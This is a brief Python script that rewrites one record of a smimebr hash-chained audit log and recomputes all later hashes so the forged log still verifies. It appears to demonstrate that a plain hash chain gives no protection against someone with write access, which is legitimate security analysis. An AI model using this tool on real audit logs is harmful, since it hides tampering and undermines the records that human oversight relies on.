"""Rewrite an audit log as somebody would who has write access to it: replace text in one record and
compute the chain anew from there on, so that it verifies.

    audit_forge.py LOG RECORD OLD NEW >FORGED

The format is that of smimebr-audit(5); nothing of the project's code takes part.
"""
import hashlib
import re
import sys


def line_hash(body):
    """SHA-256 over a line before its hash, without the member tbs."""
    return hashlib.sha256(re.sub(rb',"tbs":"[^"]*"', b"", body, count=1)).hexdigest().encode()


def main():
    path, record, old, new = sys.argv[1], *(word.encode() for word in sys.argv[2:])
    previous = None
    for line in open(path, "rb").read().splitlines():
        body = line[: line.rindex(b',"hash":"')]
        if re.search(rb',"sequence":%s$' % record, body):
            if old not in body:
                sys.exit("record %s lacks %s" % (record.decode(), old.decode()))
            body = body.replace(old, new)
        if previous is not None:
            body = re.sub(rb'("previous":)"[0-9a-f]{64}"', rb'\1"%s"' % previous, body)
        previous = line_hash(body)
        sys.stdout.buffer.write(body + b',"hash":"' + previous + b'"}\n')


main()
